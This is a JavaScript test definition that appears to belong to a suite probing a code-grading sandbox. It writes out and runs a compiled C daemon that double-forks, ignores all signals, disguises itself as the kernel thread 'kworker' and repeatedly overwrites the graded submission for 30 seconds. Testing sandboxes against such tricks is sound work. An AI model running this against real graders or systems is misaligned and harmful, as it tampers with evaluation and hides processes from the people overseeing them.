import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'cc-daemon',
  class: 'process-persistence',
  languages: ['any'],
  requires: ['cc'],
  why: 'compiles a native daemon: double fork, setsid, renamed with prctl(PR_SET_NAME) to kworker, every signal ignored, a child subreaper that forks a new writer whenever one dies, rewriting the submission for 30 seconds',
  commands: [
    String.raw`cat > /tmp/.d.c <<'CEOF'
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (fork() != 0) return 0;
  setsid();
  if (fork() != 0) return 0;
  for (int s = 1; s < 32; s++) signal(s, SIG_IGN);
  prctl(PR_SET_NAME, "kworker/u8:2", 0, 0, 0);
  prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
  time_t end = time(NULL) + 30;
  while (time(NULL) < end) {
    pid_t child = fork();
    if (child == 0) {
      for (int i = 0; i < 20; i++) {
        int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0) { (void)write(fd, "1\n", 2); close(fd); }
        usleep(50000);
      }
      _exit(0);
    }
    if (child > 0) waitpid(child, NULL, 0); else usleep(100000);
  }
  return 0;
}
CEOF
cc -O -o /tmp/.kworker /tmp/.d.c 2>&1 && /tmp/.kworker "$(realpath {{submission}})"; sleep 0.3; ps -eo pid=,comm= | grep kworker`,
  ],
  parallelSafe: true,
  expected: ['graded', 'PIDS_LIMIT'],
});
